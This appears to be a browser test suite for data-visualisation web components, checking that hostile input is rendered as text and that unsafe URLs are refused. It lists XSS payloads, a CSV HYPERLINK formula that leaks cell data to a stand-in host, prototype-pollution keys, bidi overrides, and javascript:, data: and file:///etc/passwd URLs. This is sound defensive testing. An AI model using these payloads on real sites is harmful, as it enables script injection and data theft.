// Hostile input (DESIGN §6): every text field of the schema carries markup, a closing
// </script>, an attribute break-out, template syntax, a bidi override or a very long
// string, and must be shown as text; a link is made only from an http(s) URL; a `src`
// that is not http(s) is refused with E_URL and never requested.
import { expect } from '@open-wc/testing';
import type { CifraElement } from '../../src/base/cifra-element.js';
import type { CrimeRateTrend } from '../../src/elements/crime-rate-trend/crime-rate-trend.js';
import { clearRequestCache } from '../../src/data/loader.js';
import { errorDetail, key, mount, settled, shadowText, sleep, spyFetch, TAGS, unmountAll, validDoc, type Mounted, type Tag } from './helpers.js';

type Pwned = Window & { __pwned?: unknown };
const w = window as Pwned;

// Anything a payload could run sets window.__pwned, alert() included (it would otherwise block the page).
const originalDialogs = { alert: window.alert, confirm: window.confirm, prompt: window.prompt };
before(() => {
  window.alert = () => { w.__pwned = 'alert'; };
  window.confirm = () => { w.__pwned = 'confirm'; return false; };
  window.prompt = () => { w.__pwned = 'prompt'; return null; };
});
after(() => Object.assign(window, originalDialogs));

const pageErrors: unknown[] = [];
window.addEventListener('error', (e) => pageErrors.push(e.error ?? e.message));
window.addEventListener('unhandledrejection', (e) => pageErrors.push(e.reason));

beforeEach(() => {
  delete w.__pwned;
  pageErrors.length = 0;
});

afterEach(() => {
  unmountAll();
  clearRequestCache();
});

/** `it`, then: no payload ran, nothing reached the page's error handlers, no prototype was polluted. */
function it(name: string, fn: () => Promise<void>): void {
  globalThis.it(name, async () => {
    await fn();
    await sleep(0);
    expect(w.__pwned, 'a payload ran').to.equal(undefined);
    expect(pageErrors.splice(0).map(String), 'errors that reached the page').to.deep.equal([]);
    expect(Object.prototype, 'Object.prototype untouched').not.to.have.property('polluted');
  });
}

/** The hostile strings; each is put in every text field, tagged with the field's name. */
const PAYLOADS: Record<string, string> = {
  markup: '<img src=x onerror=window.__pwned=1>',
  'closing script': '</script><script>window.__pwned=1</script>',
  'attribute break-out': '" onmouseover="window.__pwned=1',
  'single-quote break-out': "' onfocus='window.__pwned=1' autofocus='",
  'template syntax': "{{constructor.constructor('window.__pwned=1')()}}",
  'template literal': '${alert(1)}',
  'lit marker': '<?lit$1234$>lit$1234$<!--?lit$1234$-->',
  // Bidirectional overrides (U+202E …) are refused by the validator: see the bidi tests below.
  'right-to-left text': 'مصدر מקור evil.exe',
  'formula (CSV)': '=HYPERLINK("https://example.com/?x="&A1,"click")',
  'very long': '<b onclick="window.__pwned=1">x</b>'.repeat(600),
};

type TextValue = string | { es: string; en: string };

/**
 * A rich document whose every text field is `payload` followed by the field's name, so that
 * each field can be found in the rendering. `kind` picks a rate document (the chart and the
 * rate) or a rank document (the badge).
 */
function hostileDoc(payload: string, kind: 'rate' | 'rank'): Record<string, unknown> {
  const t = (field: string): string => `${payload}‹${field}›`;
  const tx = (field: string): TextValue => ({ es: t(`${field}.es`), en: t(`${field}.en`) });
  const rate = kind === 'rate';
  return {
    schema: 1,
    lang: 'es',
    id: 'hostil',
    title: tx('title'),
    subtitle: t('subtitle'),
    description: tx('description'),
    unit: rate ? { type: 'rate', per: 100000, of: tx('unit.of') } : { type: 'rank', outOf: 32, among: tx('unit.among') },
    series: [
      {
        id: 'a',
        label: tx('series.label'),
        geo: { level: 'state', code: '01', name: tx('geo.name.a') },
        observations: rate
          ? [{ period: '2012', count: 100, population: 1_000_000, note: tx('observation.note') }, { period: '2016', value: 17, note: t('observation.note2') }]
          : [{ period: '2012', value: 3, note: tx('observation.note') }, { period: '2016', value: 1, note: t('observation.note2') }],
      },
      {
        id: 'b',
        geo: { level: 'country', code: 'MX', name: t('geo.name.b') },
        observations: rate ? [{ period: '2012', value: 22.9 }, { period: '2016', value: 19.5 }] : [{ period: '2012', value: 5 }, { period: '2016', value: 2 }],
      },
    ],
    reference: { label: tx('reference.label'), value: rate ? 20 : 4 },
    annotations: [{ period: '2014', label: tx('annotation.label') }],
    sources: [
      { name: t('source.name'), publisher: t('source.publisher'), url: 'https://www.inegi.org.mx/app/tabulados/?t=1&x="a"' },
      { name: t('source2.name') },
    ],
    notes: [t('notes[0]'), tx('notes[1]')],
  };
}

/**
 * The fields each element shows (the others must not appear at all, or only as text),
 * before any interaction. The chart shows a point's note when the point is focused.
 */
const SHOWN: Record<Tag, readonly string[]> = {
  'crime-rate-trend': [
    'title', 'subtitle', 'description', 'unit.of', 'series.label', 'geo.name.b', 'reference.label',
    'annotation.label', 'source.name', 'source.publisher', 'source2.name', 'notes[0]', 'notes[1]',
  ],
  'rate-per-100k': ['title', 'unit.of', 'geo.name.a', 'reference.label', 'source.name', 'source.publisher', 'source2.name'],
  'ranking-badge': ['title', 'unit.among', 'geo.name.a', 'source.name', 'source.publisher', 'source2.name'],
};
const PLAIN = new Set(['subtitle', 'geo.name.b', 'source.name', 'source.publisher', 'source2.name', 'notes[0]', 'observation.note2']);
const field = (payload: string, name: string, lang: 'es' | 'en'): string => `${payload}‹${PLAIN.has(name) ? name : `${name}.${lang}`}›`;

/** Elements a payload could have created, anywhere in the element's light or shadow tree. */
const FORBIDDEN = new Set(['img', 'script', 'iframe', 'object', 'embed', 'b', 'image', 'foreignobject', 'meta', 'base', 'form', 'input', 'textarea']);

function allElements(root: ParentNode): Element[] {
  const out: Element[] = [];
  for (const el of root.querySelectorAll('*')) {
    out.push(el);
    if (el.shadowRoot) out.push(...allElements(el.shadowRoot));
  }
  return out;
}

/** Nothing injected: no forbidden element, no on* attribute, no link but http(s) ones. */
function assertNothingInjected(el: Element): void {
  // The host's own attributes are the author's (src, lang…); everything below it is cifra's.
  const nodes = [...allElements(el), ...allElements(el.shadowRoot!)];
  for (const node of nodes) {
    const tag = node.localName.toLowerCase();
    if (node.parentElement === el && tag === 'script' && node.getAttribute('type') === 'application/json') continue;
    expect(FORBIDDEN.has(tag), `an injected <${tag}>`).to.equal(false);
    for (const attr of node.getAttributeNames()) {
      expect(attr.startsWith('on'), `an event-handler attribute ${attr} on <${tag}>`).to.equal(false);
      expect(attr, `a stray attribute on <${tag}>`).not.to.match(/autofocus|["'<>{}]/);
      const value = node.getAttribute(attr) ?? '';
      if (attr === 'href' || attr === 'src' || attr === 'xlink:href' || attr === 'action' || attr === 'formaction') {
        expect(value, `${attr} on <${tag}>`).to.match(/^https?:\/\//);
      }
    }
  }
}

/** Everything in the shadow root's text, spoken twins included: what must never hold a field it should not. */
function rawShadowText(el: Element): string {
  return el.shadowRoot?.textContent ?? '';
}

/**
 * The text a sighted reader sees (helpers.shadowText: without the spoken twins of shown tokens
 * and the status region), where every shown field must appear literally. A twin may say part
 * of a field in words ("1st =" as "1st is the"), so the raw text is not the shown one.
 */
function shownShadowText(el: Element): string {
  return shadowText(el);
}

/** The chart's download buttons, by what they show (a Resumen button may come before them). */
function downloadButton(root: ShadowRoot, kind: 'CSV' | 'SVG'): HTMLButtonElement {
  const button = [...root.querySelectorAll<HTMLButtonElement>('.actions button')].find((b) => b.textContent!.includes(kind));
  if (!button) throw new Error(`no ${kind} download button`);
  return button;
}

async function mountHostile(tag: Tag, payload: string, lang: 'es' | 'en'): Promise<Mounted> {
  const m = mount(tag, (el) => {
    el.setAttribute('lang', lang);
    if (tag === 'rate-per-100k') el.setAttribute('series', 'a');
    el.data = hostileDoc(payload, tag === 'ranking-badge' ? 'rank' : 'rate');
  });
  // Wide enough that short labels sit at the end of the lines; narrower charts that switch to a
  // legend once measured hit a ResizeObserver loop, tested on its own in faults.test.ts.
  m.container.style.width = '800px';
  await settled(m.el);
  expect(m.el.status, JSON.stringify(m.events.map((e) => e.detail), null, 1).slice(0, 2000)).to.equal('ready');
  return m;
}

/** Captures downloads (an <a download> clicked by the element) instead of letting Chromium save them. */
async function captureDownload(click: () => void): Promise<{ name: string; text: string }> {
  const original = HTMLAnchorElement.prototype.click;
  let captured: { name: string; href: string } | undefined;
  HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
    if (this.hasAttribute('download')) captured = { name: this.download, href: this.href };
    else original.call(this);
  };
  try {
    click();
  } finally {
    HTMLAnchorElement.prototype.click = original;
  }
  if (!captured) throw new Error('no download was started');
  expect(captured.href).to.match(/^blob:/);
  const text = await (await fetch(captured.href)).text();
  return { name: captured.name, text };
}

describe('hostile text in every field is shown as text', () => {
  for (const tag of TAGS) {
    for (const [name, payload] of Object.entries(PAYLOADS)) {
      for (const lang of ['es', 'en'] as const) {
        it(`<${tag} lang=${lang}> with ${name}`, async () => {
          const m = await mountHostile(tag, payload, lang);
          const shown = shownShadowText(m.el);
          const missing = SHOWN[tag].filter((f) => !shown.includes(field(payload, f, lang)));
          expect(missing, 'fields not shown literally').to.deep.equal([]);
          // The other language is never shown, nor said.
          const other = lang === 'es' ? 'en' : 'es';
          expect(rawShadowText(m.el).includes(`‹title.${other}›`), `title in ${other}`).to.equal(false);
          assertNothingInjected(m.el);
          expect(document.querySelectorAll('img, iframe, object, embed').length, 'nothing added to the page').to.equal(0);
        });
      }
    }
  }
});

describe('after interacting, still text', () => {
  for (const [name, payload] of Object.entries(PAYLOADS)) {
    it(`<crime-rate-trend> with ${name}: tooltip on hover and focus, the table, CSV and SVG downloads`, async () => {
      const m = await mountHostile('crime-rate-trend', payload, 'es');
      const el = m.el as CrimeRateTrend;
      const root = el.shadowRoot!;
      const plot = root.querySelector<HTMLElement>('.plot')!;
      const svg = root.querySelector('.plot svg')!;

      // Keyboard: focus the plot, Home goes to the first point, whose note is shown and announced.
      plot.focus();
      plot.dispatchEvent(new KeyboardEvent('keydown', { key: 'Home', bubbles: true, composed: true }));
      await el.updateComplete;
      const note = field(payload, 'observation.note', 'es');
      expect((root.querySelector('.tooltip')?.textContent ?? '').includes(note), 'the note in the tooltip').to.equal(true);
      expect((root.querySelector('#live')?.textContent ?? '').includes(note), 'the note announced').to.equal(true);
      for (const key of ['ArrowRight', 'ArrowDown', 'ArrowUp', 'End', 'ArrowLeft', 'Escape']) {
        plot.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
        await el.updateComplete;
      }
      assertNothingInjected(el);

      // Pointer over the plot: a tooltip for the nearest point.
      plot.blur();
      await el.updateComplete;
      const box = svg.getBoundingClientRect();
      plot.dispatchEvent(new PointerEvent('pointermove', { bubbles: true, composed: true, clientX: box.left + 2, clientY: box.top + box.height / 2 }));
      await el.updateComplete;
      expect(root.querySelector('.tooltip'), 'a tooltip on hover').to.exist;
      assertNothingInjected(el);

      // The data table: captions and headers are text too.
      const toggle = root.querySelector<HTMLButtonElement>('button[aria-controls="data"]')!;
      toggle.click();
      await el.updateComplete;
      const table = root.querySelector('table')!;
      expect(table, 'the table is shown').to.exist;
      expect(table.querySelector('caption')!.textContent!.includes(field(payload, 'title', 'es')), 'the title in the caption').to.equal(true);
      expect(table.querySelector('thead')!.textContent!.includes(field(payload, 'series.label', 'es')), 'the label in a header').to.equal(true);
      assertNothingInjected(el);

      // CSV: the hostile text is in it, with a formula neutralized; the file name is the id.
      const csv = await captureDownload(() => downloadButton(root, 'CSV').click());
      expect(csv.name).to.equal('hostil.csv');
      const rows = csv.text.replace(/^\uFEFF/, '').split('\r\n');
      expect(rows[0]).to.equal('period,series,code,value,lower,upper,count,population,status,qualifier,unit,source,note,coverage');
      const cells = rows.slice(1).filter(Boolean).flatMap(parseCsvRow);
      for (const c of cells) expect(/^[=+\-@\t\r]/.test(c), `a CSV cell a spreadsheet would run: ${c.slice(0, 60)}`).to.equal(false);
      expect(cells.some((c) => c.includes(field(payload, 'series.label', 'es'))), 'the series label in the CSV').to.equal(true);

      // SVG: serialized markup, so the payload must be escaped in it.
      const file = await captureDownload(() => downloadButton(root, 'SVG').click());
      const parsed = new DOMParser().parseFromString(file.text, 'image/svg+xml');
      expect(parsed.querySelector('parsererror'), 'the SVG file parses').to.equal(null);
      for (const node of parsed.querySelectorAll('*')) {
        expect(FORBIDDEN.has(node.localName.toLowerCase()), `<${node.localName}> in the SVG file`).to.equal(false);
        for (const attr of node.getAttributeNames()) expect(attr.startsWith('on'), `${attr} in the SVG file`).to.equal(false);
      }
      await sleep(50);
    });
  }

  // Long labels do not fit at the end of the lines, so the chart draws a legend of small SVG
  // swatches above the plot: the plot's own <svg> is then not the first one in the shadow root.
  it('<crime-rate-trend> with a legend: the SVG download is the chart, not a legend swatch', async () => {
    const m = await mountHostile('crime-rate-trend', PAYLOADS['markup']!, 'es');
    const root = m.el.shadowRoot!;
    expect(root.querySelector('.legend'), 'a legend is shown').to.exist;
    const file = await captureDownload(() => downloadButton(root, 'SVG').click());
    const parsed = new DOMParser().parseFromString(file.text, 'image/svg+xml');
    // A publishable file: the chart's name as the SVG's <title>, the title and source lines around the plot.
    expect(parsed.querySelector('svg > title')?.textContent, 'the chart\'s accessible name as <title>').to.equal(root.querySelector('.plot svg[role="img"]')!.getAttribute('aria-label'));
    expect(parsed.querySelectorAll('path.line').length, 'both lines').to.equal(2);
    const texts = [...parsed.querySelectorAll('svg > text')].map((t) => t.textContent).join(' ');
    expect(texts, 'the title, as text').to.include(field(PAYLOADS['markup']!, 'title', 'es').slice(0, 12));
    expect(texts, 'the source line').to.match(/Fuente/);
    expect(parsed.documentElement.textContent!.includes(field(PAYLOADS['markup']!, 'annotation.label', 'es')), 'the annotation, as text').to.equal(true);
  });

  it('<crime-rate-trend> with a legend: hovering a point shows that point', async () => {
    const m = await mountHostile('crime-rate-trend', PAYLOADS['markup']!, 'es');
    m.el.setAttribute('show-points', '');
    await m.el.updateComplete;
    const root = m.el.shadowRoot!;
    expect(root.querySelector('.legend'), 'a legend is shown').to.exist;
    // The second series (México, 19.5 in 2016) is drawn with squares; its 2016 point is the last.
    // (The legend's swatches, inside the plot too, carry markers of their own.)
    const squares = [...root.querySelectorAll('.plot svg[role="img"] rect.marker')];
    expect(squares).to.have.length(2);
    const r = squares[1]!.getBoundingClientRect();
    const plot = root.querySelector<HTMLElement>('.plot')!;
    plot.dispatchEvent(new PointerEvent('pointermove', { bubbles: true, composed: true, clientX: r.left + r.width / 2, clientY: r.top + r.height / 2 }));
    await m.el.updateComplete;
    const tip = root.querySelector('.tooltip')?.textContent ?? '';
    expect(tip.includes('‹geo.name.b›') && tip.includes('2016'), `the tooltip names México in 2016: ${tip.slice(-80)}`).to.equal(true);
  });

  it('<rate-per-100k> shows how it was calculated with a hostile unit, as text', async () => {
    const m = await mountHostile('rate-per-100k', PAYLOADS['markup']!, 'es');
    m.el.setAttribute('period', '2012');
    await m.el.updateComplete;
    const details = m.el.shadowRoot!.querySelector('details')!;
    details.open = true;
    await sleep(0);
    expect(details.textContent).to.include(field(PAYLOADS['markup']!, 'unit.of', 'es'));
    assertNothingInjected(m.el);
  });
});

/** RFC 4180 fields of one CSV row. */
function parseCsvRow(row: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= row.length) {
    if (row[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        const j = row.indexOf('"', i);
        if (j < 0) throw new Error(`unterminated quote in ${row.slice(0, 80)}`);
        value += row.slice(i, j);
        if (row[j + 1] === '"') {
          value += '"';
          i = j + 2;
        } else {
          i = j + 1;
          break;
        }
      }
      out.push(value);
      i++; // the comma
    } else {
      const j = row.indexOf(',', i);
      out.push(row.slice(i, j < 0 ? row.length : j));
      i = j < 0 ? row.length + 1 : j + 1;
    }
  }
  return out;
}

describe('text from attributes, error messages and keys is text too', () => {
  const p = PAYLOADS['markup']!;

  it('<rate-per-100k> shorthand attributes', async () => {
    const m = mount('rate-per-100k', (el) => {
      for (const a of ['label', 'place', 'source', 'reference-label', 'period']) el.setAttribute(a, a === 'period' ? '2016' : `${p}‹${a}›`);
      el.setAttribute('count', '17');
      el.setAttribute('population', '100000');
      el.setAttribute('reference', '20');
    });
    await settled(m.el);
    expect(m.el.status).to.equal('ready');
    const text = shownShadowText(m.el);
    for (const a of ['label', 'place', 'source', 'reference-label']) expect(text, a).to.include(`${p}‹${a}›`);
    assertNothingInjected(m.el);
  });

  it('<ranking-badge> shorthand attributes', async () => {
    const m = mount('ranking-badge', (el) => {
      for (const a of ['subject', 'place', 'among', 'source']) el.setAttribute(a, `${p}‹${a}›`);
      el.setAttribute('rank', '1');
      el.setAttribute('out-of', '32');
      el.setAttribute('period', '2025');
      el.setAttribute('strip', '');
    });
    await settled(m.el);
    expect(m.el.status).to.equal('ready');
    const text = shownShadowText(m.el);
    for (const a of ['subject', 'place', 'among', 'source']) expect(text, a).to.include(`${p}‹${a}›`);
    assertNothingInjected(m.el);
  });

  it('a hostile series attribute is named in the error, as text', async () => {
    const m = mount('rate-per-100k', (el) => { el.setAttribute('series', p); el.data = validDoc(); });
    await settled(m.el);
    expect(errorDetail(m).code).to.equal('E_SCHEMA');
    expect(shownShadowText(m.el)).to.include(p);
    assertNothingInjected(m.el);
  });

  it('hostile keys are listed in the schema error, as text', async () => {
    const m = mount('crime-rate-trend', (el) => {
      el.data = { ...validDoc(), [p]: 1, unit: { type: 'rate', per: 100000, [PAYLOADS['closing script']!]: 1 }, title: { [PAYLOADS['attribute break-out']!]: 'x' } };
    });
    await settled(m.el);
    const detail = errorDetail(m);
    expect(detail.code).to.equal('E_SCHEMA');
    const text = shownShadowText(m.el);
    expect(text).to.include(JSON.stringify(p));
    expect(text).to.include(JSON.stringify(PAYLOADS['closing script']));
    expect(text).to.include(JSON.stringify(PAYLOADS['attribute break-out']));
    assertNothingInjected(m.el);
  });

  it('__proto__ and constructor keys are errors, and pollute nothing', async () => {
    const m = mount('ranking-badge', (el) => {
      el.data = `{"schema":1,"title":"t","unit":{"type":"rate","per":100000},"series":[{"observations":[{"period":"2012","value":1}]}],"sources":[{"name":"x"}],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`;
    });
    await settled(m.el);
    expect(errorDetail(m).code).to.equal('E_SCHEMA');
    expect(errorDetail(m).problems!.map((x) => x.path)).to.include.members(['$.__proto__', '$.constructor']);
  });

  it('a body that is not JSON is an E_PARSE in the element\'s words, the body never markup', async () => {
    const m = mount('rate-per-100k', (el) => { el.data = `${p}{`; });
    await settled(m.el);
    expect(errorDetail(m).code).to.equal('E_PARSE');
    // The message is the element's own, localized (not the engine's, which may quote the body);
    // whatever of the body it holds is text.
    expect(shownShadowText(m.el)).to.include('The data is not valid JSON.');
    expect(errorDetail(m).message).to.include('The data is not valid JSON.');
    assertNothingInjected(m.el);
  });

  it('a hostile src is quoted in E_URL as text, and never requested', async () => {
    const src = `javascript:${p}`;
    const before = performance.getEntriesByType('resource').length;
    const m = mount('crime-rate-trend', (el) => el.setAttribute('src', src));
    await settled(m.el);
    expect(errorDetail(m).code).to.equal('E_URL');
    expect(shownShadowText(m.el)).to.include(src);
    assertNothingInjected(m.el);
    expect(performance.getEntriesByType('resource').length).to.equal(before);
  });

  it('an inline <script type="application/json"> whose JSON escapes </script> shows it literally', async () => {
    const container = document.createElement('div');
    const doc = validDoc('TITLE');
    const json = JSON.stringify(doc).replace('TITLE', '<\\/script><script>window.__pwned=1<\\/script>');
    container.innerHTML = `<ranking-badge><script type="application/json">${json}</script></ranking-badge>`;
    document.body.append(container);
    try {
      const el = container.querySelector('ranking-badge') as unknown as CifraElement;
      await settled(el);
      expect(el.status).to.equal('ready');
      expect(shownShadowText(el)).to.include('</script><script>window.__pwned=1</script>');
      assertNothingInjected(el);
    } finally {
      container.remove();
    }
  });
});

describe('a very long unbroken text does not push the page sideways', () => {
  const long = 'Aguascalientes'.repeat(400);
  for (const tag of TAGS) {
    it(`<${tag}> keeps its content inside its width`, async () => {
      const doc = hostileDoc('', tag === 'ranking-badge' ? 'rank' : 'rate');
      const m = mount(tag, (el) => { if (tag === 'rate-per-100k') el.setAttribute('series', 'a'); el.data = { ...doc, title: long, sources: [{ name: long }] }; });
      await settled(m.el);
      const host = m.el.getBoundingClientRect();
      let right = 0;
      for (const node of allElements(m.el.shadowRoot!)) {
        // A visually hidden text (a folded summary, a spoken twin) is one clipped line in a 1px box
        // with overflow hidden: it adds nothing to the page's width.
        if (node.parentElement?.closest('.sr-only')) continue;
        right = Math.max(right, node.getBoundingClientRect().right);
      }
      expect(right - host.right, 'how far the content sticks out, in px').to.be.at.most(1);
    });
  }
});

describe('a bidi override in a document is refused, so it can never reorder what the reader sees', () => {
  // An unclosed U+202E (RIGHT-TO-LEFT OVERRIDE) lasts to the end of its paragraph: it would
  // reverse the publisher, the date or the digits that follow it ("2016" read as "6102").
  // Bidirectional embedding, override and isolate controls are not plain text: the validator
  // refuses them with a problem naming the field. Right-to-left letters are still text.
  for (const tag of TAGS) {
    for (const control of ['\u202E', '\u202D', '\u2066', '\u202A']) {
      it(`<${tag}>: U+${control.codePointAt(0)!.toString(16).toUpperCase()} in a source name is an E_SCHEMA error naming it`, async () => {
        const m = mount(tag, (el) => { el.data = { ...validDoc(), sources: [{ name: `INEGI${control}`, publisher: 'XYZ2016' }] }; }, 'en');
        await settled(m.el);
        expect(m.el.status).to.equal('error');
        const text = shadowText(m.el);
        expect(text).to.include('$.sources[0].name: must be plain text');
        expect(text, 'the publisher is not shown at all').not.to.include('XYZ2016');
      });
    }
    it(`<${tag}>: Arabic and Hebrew labels are shown, and the text after them still reads left to right`, async () => {
      const m = mount(tag, (el) => { el.data = { ...validDoc('معدل القتل'), sources: [{ name: 'מקור', publisher: 'XYZ2016' }] }; }, 'en');
      await settled(m.el);
      expect(m.el.status).to.equal('ready');
      const p = m.el.shadowRoot!.querySelector('[part="source"]')!;
      expect(p.textContent).to.include('מקור');
      const walker = document.createTreeWalker(p, NodeFilter.SHOW_TEXT);
      let node: Text | null = null;
      while (walker.nextNode()) if ((walker.currentNode as Text).data.includes('XYZ2016')) node = walker.currentNode as Text;
      expect(node, 'the publisher is shown').to.exist;
      const at = node!.data.indexOf('XYZ2016');
      const x = (offset: number): number => {
        const r = document.createRange();
        r.setStart(node!, offset);
        r.setEnd(node!, offset + 1);
        return r.getBoundingClientRect().left;
      };
      expect(x(at), '"X" is left of "6"').to.be.lessThan(x(at + 6));
    });
  }
});

describe('links only from http(s) URLs', () => {
  const BAD_URLS = [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    'javascript://%0Aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'jav&#x09;ascript:alert(1)',
    '\u0000javascript:alert(1)',
    '//evil.example/x',
    'https:evil.example',
    'https://user:pass@evil.example/',
    'file:///etc/passwd',
    'ftp://example.com/',
  ];

  for (const tag of TAGS) {
    for (const url of BAD_URLS) {
      it(`<${tag}> refuses sources[0].url ${JSON.stringify(url)} with E_SCHEMA at $.sources[0].url`, async () => {
        const m = mount(tag, (el) => { el.data = { ...validDoc(), sources: [{ name: 'INEGI', url }] }; });
        await settled(m.el);
        expect(m.el.status).to.equal('error');
        const detail = errorDetail(m);
        expect(detail.code).to.equal('E_SCHEMA');
        expect(detail.problems!.map((x) => x.path)).to.include('$.sources[0].url');
        expect(m.el.shadowRoot!.querySelectorAll('a').length, 'no link').to.equal(0);
      });
    }

    it(`<${tag}> makes an https URL a link with rel="noopener noreferrer", and a weird but valid one an exact href`, async () => {
      const weird = 'https://example.com/a"onmouseover="window.__pwned=1\'<b>';
      const m = mount(tag, (el) => {
        el.data = { ...validDoc(), sources: [{ name: 'INEGI', url: 'https://www.inegi.org.mx/' }, { name: 'Raro', url: weird }, { name: 'SESNSP', url: 'http://www.secretariadoejecutivo.gob.mx/' }, { name: 'Sin enlace' }] };
      });
      await settled(m.el);
      expect(m.el.status).to.equal('ready');
      const links = [...m.el.shadowRoot!.querySelectorAll('a')];
      expect(links.map((a) => a.getAttribute('href'))).to.deep.equal(['https://www.inegi.org.mx/', weird, 'http://www.secretariadoejecutivo.gob.mx/']);
      expect(links.map((a) => a.textContent)).to.deep.equal(['INEGI', 'Raro', 'SESNSP']);
      for (const a of links) {
        expect(a.getAttribute('rel')).to.equal('noopener noreferrer');
        expect(a.getAttributeNames().sort()).to.deep.equal(['href', 'rel']);
      }
      expect(shownShadowText(m.el)).to.include('Sin enlace');
      assertNothingInjected(m.el);
    });
  }

  const BAD_SRC = [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    'javascript:fetch("/_test/doc.json?k=js")',
    'data:text/html,<script>alert(1)</script>',
    'data:application/json,{"schema":1}',
    'vbscript:msgbox(1)',
    'blob:https://example.com/0000',
    'file:///etc/passwd',
    'about:blank',
  ];

  for (const src of BAD_SRC) {
    it(`src=${JSON.stringify(src)} is E_URL on all three, with no request`, async () => {
      const before = performance.getEntriesByType('resource').length;
      const spy = spyFetch('');
      try {
        const ms = TAGS.map((tag) => mount(tag, (el) => el.setAttribute('src', src)));
        for (const m of ms) await settled(m.el);
        await sleep(100);
        for (const m of ms) {
          expect(m.el.status).to.equal('error');
          expect(errorDetail(m).code).to.equal('E_URL');
          expect(m.events.map((e) => e.type)).to.deep.equal(['cifra-error']);
        }
        expect(spy.calls(), 'fetch() calls').to.equal(0);
        expect(performance.getEntriesByType('resource').length, 'resources loaded').to.equal(before);
      } finally {
        spy.restore();
      }
    });
  }

  it('src="jav&#x09;ascript:…" written in HTML (the parser decodes the tab) is E_URL, with no request', async () => {
    const before = performance.getEntriesByType('resource').length;
    const spy = spyFetch('');
    const container = document.createElement('div');
    container.innerHTML = '<rate-per-100k src="jav&#x09;ascript:alert(1)"></rate-per-100k><ranking-badge src="&#x20;JaVaScRiPt:alert(1)"></ranking-badge>';
    document.body.append(container);
    try {
      for (const el of container.children) {
        await settled(el as unknown as CifraElement);
        expect((el as unknown as CifraElement).status).to.equal('error');
        expect(el.shadowRoot!.querySelector('[part="error"]')!.getAttribute('data-code')).to.equal('E_URL');
      }
      expect(spy.calls()).to.equal(0);
      expect(performance.getEntriesByType('resource').length).to.equal(before);
    } finally {
      spy.restore();
      container.remove();
    }
  });

  it('a server redirect to javascript: or data: is E_FETCH, never followed', async () => {
    for (const to of ['javascript:alert(1)', 'data:application/json,{"schema":1}']) {
      const k = key();
      const m = mount('rate-per-100k', (el) => el.setAttribute('src', `/_test/redirect?k=${k}&to=${encodeURIComponent(to)}`));
      await settled(m.el);
      expect(errorDetail(m).code, to).to.equal('E_FETCH');
    }
  });
});
